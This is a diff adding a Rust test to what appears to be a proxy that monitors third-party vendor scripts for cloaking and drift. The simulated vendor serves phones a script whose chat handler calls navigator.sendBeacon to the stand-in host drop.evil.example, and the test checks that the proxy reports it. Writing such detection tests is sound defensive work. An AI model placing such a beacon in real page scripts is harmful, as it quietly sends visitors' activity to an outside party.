@@ -258,3 +258,29 @@ async fn only_where_the_policy_says_so_pages_get_a_mirror() {
     let page = Client::connect(proxy.address()).await.ask(get("/")).await;
     assert!(page.text().contains(&url) && page.text().contains("integrity="), "{}", page.text());
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_cloaking_vendor_newly_reaches_is_told_though_its_cloaking_was() {
+    let upstream = Upstream::answering(page("")).await;
+    let phones = Served::new(CHAT);
+    let (served, stamps) = (phones.clone(), std::sync::atomic::AtomicUsize::new(0));
+    let vendor = Vendor::serving(move |head, stream| {
+        // A phone gets other bytes each time, which by themselves say nothing new.
+        let stamp = stamps.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+        let phone = head.to_lowercase().contains("iphone");
+        let body = if phone { format!("{}//{stamp}", served.body()) } else { CHAT.to_owned() };
+        script(stream, &body);
+    });
+    let proxy = watching(&upstream, &vendor, "");
+    stands(&proxy, "cloaked").await;
+    looks(&vendor, 3).await;
+    let found = told(&proxy, EventKind::DriftFound);
+    assert_eq!(found.len(), 1, "{found:#?}");
+    phones.set("window.chat={open:function(){navigator.sendBeacon('https://drop.evil.example/')}};");
+    let told = eventually("what phones are served is told", async || {
+        let found = told(&proxy, EventKind::DriftFound);
+        found.into_iter().find(|message| message.contains("drop.evil.example"))
+    })
+    .await;
+    assert!(told.contains("cloaked"), "{told}");
+}
